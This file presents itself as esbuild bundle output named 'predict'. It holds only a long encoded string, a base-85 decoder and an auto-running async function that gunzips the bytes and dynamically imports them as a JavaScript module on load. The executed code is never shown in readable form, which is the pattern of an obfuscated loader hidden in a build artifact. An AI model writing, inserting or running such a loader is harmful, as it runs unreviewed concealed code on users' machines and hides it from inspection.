/* predict, esbuild 0.28.2, sources 56ae730181ff4094 */
const packed = "23gK0((((((a)Miq6C@h.~.4@jH,6;1Tfj*to/fCVX]OFfAu@Z=c75snK9mvc3G{KKD5_fGDZ+ALS*LxzfuF_ouA-nm9YDT2sf_+g4lk,BVqw[Ayz=Cao}M_dcS[/t>CX7:H=*4Z27NRP:wEKWC2x2{L0R[r0YRnHU?-DSW?Hdpc74:vZ;)=?[;D8oYFc{1;D37^_WAZ;)l8Wno0ETjL;bX=h?6oY]-fj4~xq1r[+XMz{A?[.t:h54RZxpKt(q-758ct76)efCeJYtPr=-s9Q6EE,P2zfQl;FT]Aiq3?ojKET4Z_2D`uIKhyA=W@}?9L1nc**uWG}6m6q/@_lMzzN5mNqyNXx>k7oD=TfQ9dmPkH{=_;HBI^bx+L9h.@ykfY[m{9dG9bL]ddw559b6/u8_N5Ouh5cSnv,J)m1tOCHw|LXs,W(4lJ^icF7HhD(y^N_`_sGrn@/r.n1Z+YBY;AZySaeQu2cvH~ZrHwhJ)J`uj=ShF6_YZ9HSL=rp/P03:R9ciw3[qYsNXM^0f1-KD@]z+Y1UfP/O7nHU~(B)h@WTuKZ,}T`7NYQ;1|)d^fAz{VCUunD-H*EK>m7yvDLOPy}R0Q/}YA94nN3nP.*n^;M}c.*y(HuwHUvbWRLNFrX-4niqIaa^;w^b8H/*K/>58mRs+GCGQEvPL2V2^Ol77W0XtmOjsJpGwdNt1X.>X8:YWl;UEJNidKskL+>gaQ*Ug:DjJRKCpN]ue1ToVsfufRYPB4G?+;sWI:XCY-5>Th}0B~>+f0tcTAAN:RZQE?nC1Wn14hOwiKOK3-eFZ/+^C|*cnz46y{=oiL3oj(jXjRA}N|C=V(6=X+AJZIN.beLncF};/cvO_mijExxhYQrgA6}0Qm34>uxfG@Jy:ZSq=tX6+m~[ysyVzlIMu]Y{K6zB}88hPM3WL;ssF~I,)~Bd/RZ}^D_Jcn}r(?x9u7-TLYL_?w?@eLo[y_-(nRW?L:uKIEcys/+ERBa^OljQ+MO;at>WCgS:SRPDR]4;](PX/-3InV9YVAFOWhOsmg+>fMs=RS~m65hw;H{R6zpQ3l9;SaccfU-2wrA{Scy;wc_b=HQz~353uj1rT?z?9OzZUPsEEh]O*jJ)39pGM2Edy3:wLwM09aCdj)f,OzQ2*`OO=7Oe7A=15sO~}5.O(/ndQYL{t.fF~p+m=pkGoL7j>+_DYL]tux^bhxfLyAeHEV4X{Gt[PZ|c6qaLt;IxZ}EmHwj|3R7(sLd:uq[K-Py@_u6cEb[9rRe5J0ewbQCI*Hn,6uA|J`k:,_hjlK`oLd1^s6^K2FO(WLtvdc0ltm(@q68W7.:EhI]^2-oLqh/;uwj}9+ApAnV*=5jpng,W}vk*t}f6iy-J>ai`)GcdS7PY?fM9-NsVqk/O-NVr)X/:w6=`cxnD4+XRhnn6}JkWGFRTnji[xoLQkof6rRq^[1aYKD=eZsOp|9`D[9p[XrKsS7=A}gp}pRc)@ytO@t-Anr(Ua-P,q[V:oYX~-jVkf6clTT2Lu(?;+B>jHNK}./2j`D_my89A>paKI-p+7_FvW=-I4yH~7j5QY9vb3lnwI/w|n@YgPG=1vmFb{M,xGnD=zW@]As9eW.JqG`APAyB6HJxrToZqNtj,w`:-@XAM7=({KP4HB3l`QA-YjB`TPjUt{:W1WI/6mjol)bC[>rC`RK9.Eip+(PQ@gK/UIhGP=ii@R^Cb:XB+uwV(y>j:DSw[}WcE@E)M7Y*cokc0I63z[Nv=az?GrY/69Bind`S(EqGM0vfP5/^5(xst)Z>CU09vkOdZo]g?EdmH(`(GlxAfU7H60jlL+_T/6oMD0etG^t2_f6;Z2kd-3l,1)Rmw/C:52BMlLyJ.UjfwQKQ*6uTN3i|)W[4LNRD(eYMv6Z*UcXPW,VWHeLT72=]u?^4abFExXLDK~:8,GqF]Ou).]v,l;3dSLo+vU:@,^~@vTZFr3gco/Hrhl>X1:NTTQGx5fob}vTR7dH;:Us@NsQw68AaK32iM>a?8e)1XzC(}1Nk2(Fs)3TG:EB.haQUm{)(Zt0QGW,c*6]D:)-8u-7a}VH38HJKC{xm9}IcbU`@o1v+WBa^aWRHvrX,}zbJF0^Q6:[YrIMze,Ma2ei7v[cl|HbvzEn07K`0@Ah9PVoYh`In_P`-UVjXU_K?tY-9S.tP.(g{cODlfA3bR]v,)(v92g`^@Bxt5:ddRuM1JtnQ;+0OWl}3PZX4BRWhMND3^E]b2gM4Gsc>705[.l8.Fj}pOMRfO[2G9?Rk2;.SvQ*CqGS]k/yFJ_/8:]G{X{+e/F>Jbq=kw5`x`U`_52@pB]?VT[BVzTs0[hq/C?5-4)2lKg1^M}a(k[~o(r=}PLXdxw^)X_,3*qN;7pBfI-GGtR3fjgCpFE=j?io=>S=o|rC*L}j()_?s)3D+q~)M~`,d,o,SPR6";
const bytesOf = (text, n) => {
  const view = new DataView(new ArrayBuffer(n + 4));
  for (let i = 0, number = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    number = (i % 5 ? number * 85 : 0) + code - 40 - +(code > 60) - +(code > 92);
    if (i % 5 > 3) view.setUint32((i - 4) * 0.8, number);
  }
  return new Uint8Array(view.buffer, 0, n);
};
const exhibit = (async () => {
  const bytes = bytesOf(packed, 1935);
  const stream = new Blob([bytes]).stream().pipeThrough(new DecompressionStream("gzip"));
  const script = new Blob([await new Response(stream).text()], { type: "text/javascript" });
  return import(URL.createObjectURL(script));
})();
